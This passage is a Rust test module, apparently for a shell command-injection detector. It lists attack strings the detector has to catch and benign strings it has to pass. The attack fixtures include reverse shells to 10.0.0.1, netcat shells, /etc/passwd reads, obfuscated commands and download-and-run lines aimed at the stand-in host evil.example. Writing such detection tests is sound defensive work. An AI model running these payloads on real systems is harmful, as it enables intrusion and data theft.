        "/bin/sh -c id",
        ";/usr/bin/id",
        ";$'\\x63\\x61\\x74' /etc/passwd",
        ";${x}id",
        ";cat</etc/passwd",
        "sh -i >& /dev/tcp/10.0.0.1/80 0>&1",
        // Windows.
        "& whoami",
        "| ipconfig /all",
        "& net user",
        "& type c:\\boot.ini",
        "&& dir c:\\",
        "|w^h^o^a^m^i",
        "w^h^o^a^m^i",
        "& powershell -enc SQBFAFgA",
        "& cmd /c whoami",
        "& certutil -urlcache -split -f http://evil.example/x.exe x.exe",
        "\" & whoami & \"",
        "127.0.0.1\nping -n 21 127.0.0.1",
        "& %COMSPEC% /c dir",
        "& C:\\Windows\\System32\\cmd.exe /c ver",
        "() { :;}; /bin/bash -c \"curl http://evil.example/x\"",
        "a=nc&&$a -nlvp 555",
        "d=/dev&&(sh)0>$d/tcp/10.0.0.1/777",
        "|$u wget evil.example/x",
        "ti''me curl evil.example",
        ";`cat<<<ifconfig`",
        "& iwr http://evil.example/x.ps1",
        ";iex (iwr http://evil.example/x.ps1)",
        "; IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
        "whoami|sh",
        "x; ansible localhost -m shell -a id",
        "q|pip3 install --user evil",
        ";flock -u / sh",
        "1 && docker run -v /:/mnt alpine",
        "a; perf --version",
    ];

    /// Benign inputs: none may be flagged.
    const BENIGN: &[&str] = &[
        "",
        "hello world",
        "cats & dogs",
        "Tom & Jerry",
        "rock; paper; scissors",
        "I like cat videos",
        "see id card",
        "Bring your passport & id",
        "name; id",
        "Fish & Chips; cat lovers welcome",
        "Meeting at 5; sleep 8 hours",
        "a=1&b=2",
        "https://example.com/?a=1&b=2&id=3",
        "https://example.com/search?q=cat&page=2",
        "color: red; margin: 0",
        "for (i=0; i<n; i++) { x(); }",
        "$100",
        "It costs $5; cheap",
        "50% off & 20% more",
        "john@example.com",
        "report.cat",
        "ls -la",
        "cat /etc/hosts is where hosts live",
        "`npm install`",
        "Run `npm install` then `cargo build`",
        "R&D",
        "AT&T",
        "Q&A",
        "P&G; J&J",
        "cats | dogs",
        "Java | Python | Ruby",
        "| Name | ID |",
        "yes || no",
        "this && that",
        "I'd say: it's fine; really",
        "Don't worry; sleep well",
        "He said \"hi\" & left",
        "O'Reilly & Sons",
        "$(document).ready(function() { init(); });",
        "/usr/share/doc",
        "/home/user/notes.txt",
        "C:\\Users\\me\\Documents",
        "1/2 cup; 3/4 tsp",
        "Terms & Conditions; Privacy",
        "<p>Hello & welcome</p>",
        "{\"a\": 1, \"b\": \"x;y\"}",
        "SELECT * FROM users WHERE id = 1; -- comment",
        "time & again",
        "more & more",
        "find & replace",
        "copy & paste",
        "type & press enter",
        "set & match",
        "head & shoulders",
        "salt & pepper; echo chamber",
        "ps: see you",
        "dir: north",
        "Step 1; type your name",
        "email me at a@b.com; thanks",
        "^_^ & ^^",
        "100% & 200%",
        "fn find(&self, id: &Id) -> Option<&Arg> {",
        "x.map(|id| id.as_str())",
        "let hostname = get_one(\"hostname\");",
        "Builder::new().tempdir_in(dir)",
        "let got = search(&set, &aut);",
        "Both `hostname` and `uname` are commands",
        "Returns the [`Id`] of the task",
        "```sh\ncargo build\n```",
        "To fix it, run:\n```\nnpm install --save-dev typescript\n```\nthen `tsc --init`.",
        "```\nls -la\n```",
        "Try this:\r\n  ```bash\r\ncurl -s https://example.com/install.sh -o install.sh\r\n  ```",
        "\"queue is full; head = {head}\"",
        "time; watch the clock",
        "git & github",
        "make; do",
        "pip & pop",
        // Documents: scripts, configs, tracebacks, queries and prose.
        "#!/usr/bin/env bash\nset -euo pipefail\nfor f in *.log; do\n  gzip \"$f\"\ndone",
        "FROM python:3.12\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install -r requirements.txt",
        "query Q($id: ID!) {\n  user(id: $id) {\n    id\n    name\n  }\n}",
        "For example cat the log and grep for errors, then sort | uniq -c to count them.",
    ];

    #[test]
    fn attacks_are_flagged() {
        let missed: Vec<&str> = ATTACKS
            .iter()
            .copied()
            .filter(|a| flagged(a).is_none())
            .collect();
        assert!(missed.is_empty(), "missed attacks: {missed:#?}");
        assert!(ATTACKS.len() >= 50);
    }

    #[test]
    fn benign_inputs_pass() {
        let wrong: Vec<(&str, Detection)> = BENIGN
            .iter()
            .filter_map(|b| flagged(b).map(|d| (*b, d)))
            .collect();
        assert!(wrong.is_empty(), "false positives: {wrong:#?}");
        assert!(BENIGN.len() >= 50);
    }

    #[test]
    fn details_say_what_fired() {
        let d = flagged("127.0.0.1; cat /etc/passwd").expect("flagged");
        assert_eq!(d.context, "sh:argument");
        assert_eq!(d.detail, "after=; command=cat evidence=absolute-path");
        let d = flagged(";id").expect("flagged");
        assert_eq!(d.detail, "after=; command=id evidence=no-argument");
        let d = flagged("c'a't /etc/passwd").expect("flagged");
        assert_eq!(d.context, "sh:command-line");
        assert_eq!(d.detail, "command=cat evidence=split-quote");
        let d = flagged("'; id; '").expect("flagged");
        assert_eq!(d.context, "sh:single-quoted");
        let d = flagged("|w^h^o^a^m^i").expect("flagged");
        assert_eq!(d.context, "cmd:argument");
        assert_eq!(d.detail, "after=| command=whoami evidence=caret");
        let d = flagged("/???/c?t /???/p??s??").expect("flagged");
        assert_eq!(d.detail, "command=cat evidence=glob");
        let d = flagged("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").expect("flagged");
        assert_eq!(d.context, "sh:argument");
        assert_eq!(d.detail, "redirect=/dev/tcp/10.0.0.1/4444");
        let d = flagged("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").expect("flagged");
        assert_eq!(d.context, "sh:command-line");
        assert_eq!(d.detail, "redirect=/dev/tcp/10.0.0.1/4444");
        let d = flagged("`id`").expect("flagged");
        assert_eq!(d.detail, "after=` command=id evidence=no-argument");
    }

    /// The documented decisions about bare command lines and Markdown.
    #[test]
    fn decisions() {
        assert!(
            flagged("ls -la").is_none(),
            "a bare command is no break-out"
        );
        assert!(flagged("cat /etc/passwd").is_none());
        assert!(flagged("/bin/cat /etc/passwd").is_some(), "absolute path");
        assert!(flagged("Use `ls -la` to list files").is_some(), "code span");
        assert!(flagged("`npm install`").is_none(), "not a listed command");
        assert!(flagged("the `id` field and `set` method").is_none());
        assert!(flagged("Set `default-features=false` here").is_none());
        // A fenced code block is a document: a trick no document contains
        // still counts inside it, and so does a fence that is never closed.
        assert!(
            flagged("```\n;${IFS}cat${IFS}/etc/passwd\n```").is_some(),
            "$IFS"
        );
        assert!(flagged("```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```").is_some());
        assert!(
            flagged("```\n;c'a't /etc/passwd\n```").is_some(),
            "obfuscated"
        );
        assert!(
            flagged("x\n```\n;cat /etc/passwd").is_some(),
            "unclosed fence"
        );
        assert!(
            flagged("```;cat /etc/passwd```").is_some(),
            "not a fence line"
        );
        // A quote left open is a syntax error whichever quotes surround the
        // input, so nothing on that line would run.
        assert!(flagged("it's a cat; ls -la").is_none());
        assert!(flagged("`set keymap EMACS' works").is_none());
        assert!(
            flagged("'; ls -la #").is_some(),
            "a comment swallows the rest"
        );
    }

    #[test]
    fn tooling_names_and_versioned_interpreters() {
        for hit in [
            ";ansible-config dump",
            "x; ansible-vault decrypt secret",
            "|chef-shell",
            "&& cscli alerts list",
            ";pip3 install something",
            ";aa-disable php-fpm",
            ";python3.10 -c x",
            "\x27p\x27ython3.10 x",
            "|php8.1 -r x",
            ";gcc-12 x.c",
            "$(perl5.36 -e x)",
        ] {
            assert!(flagged(hit).is_some(), "{hit}");
        }
        for miss in [
            "ansible-config dump",
            "see the chef-client docs",
            "python3.10 is out",
            "rock; python3.10 release notes",
            "release; node18 support",
            "a; gcc7.4 compiler",
            ";python3.x",
        ] {
            assert!(flagged(miss).is_none(), "{miss}");
        }
        assert_eq!(unversioned(b"python3.10"), Some(&b"python"[..]));
        assert_eq!(unversioned(b"gcc-12"), Some(&b"gcc"[..]));
        assert_eq!(unversioned(b"python"), None);
        assert_eq!(unversioned(b"x11"), None);
    }

    #[test]
    fn opening_break_out_and_substitution() {
        for hit in [
            ";echo QWERTY",
            "|echo QWERTY",
            "&& echo \"QWERTY\"",
            "\";echo QWERTY;\"",
            "';echo QWERTY;'",
            "x\"&&echo ABC&&\"",
            "127.0.0.1;printf abc",
            "; id",
            "& dir",
            "| id",
            "127.0.0.1 ; ls",
            "\nid",
            ";make x",
            "$(printf whoami)",
            "a <(echo x) b",
            "x`echo QWERTY`",
            "127.0.0.1`printf abc`",
        ] {
            assert!(flagged(hit).is_some(), "{hit}");
        }
        for miss in [
            "| echo | prints its arguments |",
            "rock; echo chamber",
            "cats & dogs; make sure",
            "a; echo x",
            "; make sure",
            "; sort by date",
            "$(this).hide()",
            "$(document).ready(fn)",
            "Run `echo hello` to see it",
            "Use `printf` or `echo hello` instead",
            "it's fine; echo that",
            ";echo",
            "| id |",
            "a; id",
            "rock & dir",
            "; id est",
            "; ls -- the listing",
            "x; top",
        ] {
            assert!(flagged(miss).is_none(), "{miss}");
        }
    }

    #[test]
    fn globbing() {
        assert!(glob_match(b"/???", b"/bin"));
        assert!(glob_match(b"c?t", b"cat"));
        assert!(glob_match(b"c*", b"cat"));
        assert!(glob_match(b"*a*", b"cat"));
        assert!(glob_match(b"[a-c]at", b"cat"));
        assert!(glob_match(b"[!x]at", b"cat"));
        assert!(!glob_match(b"c?", b"cat"));
        assert!(!glob_match(b"[x-z]at", b"cat"));
        assert!(glob_match(b"[", b"["));
    }

    #[test]
    fn a_path_is_judged_by_its_tails_only() {
        for whole in [&b"/head"[..], b"/bin/ls", b"/usr/bin/id", b"/p/;id"] {
            assert!(detect_path(whole).is_none(), "{whole:?}");
        }
        assert!(detect_path(b";id").is_some());
        assert!(detect_path(b"| nc -e /bin/sh 10.0.0.1 4444").is_some());
        assert!(detect_path(b"$(sleep 5)/x").is_some());
        assert!(detect_path(b"cats & dogs").is_none());
        assert!(detect_path(b"jsessionid=ABC123;x=1").is_none());
    }

    #[test]
    fn scan_is_capped() {
        let mut long = vec![b'a'; MAX_SCAN];
        long.extend_from_slice(b";cat /etc/passwd");
        assert!(detect(&long).is_none(), "bytes past MAX_SCAN are not read");
        long.drain(..100);
        assert!(detect(&long).is_some());
    }

    /// Arbitrary bytes never panic (xorshift, no crates), with an alphabet
    /// biased towards the bytes the tokenizer branches on.
    #[test]
    fn random_bytes_do_not_panic() {
        const ALPHABET: &[u8] = b";|&\n`$'\"\\{},^%?*[]!<>()#=/ \tIFScatid-x0:.~\x00\xff";
        super::super::random_inputs(ALPHABET, 0x2545_F491_4F6C_DD1D, |buf| {
            let _ = detect(buf);
        });
    }
}
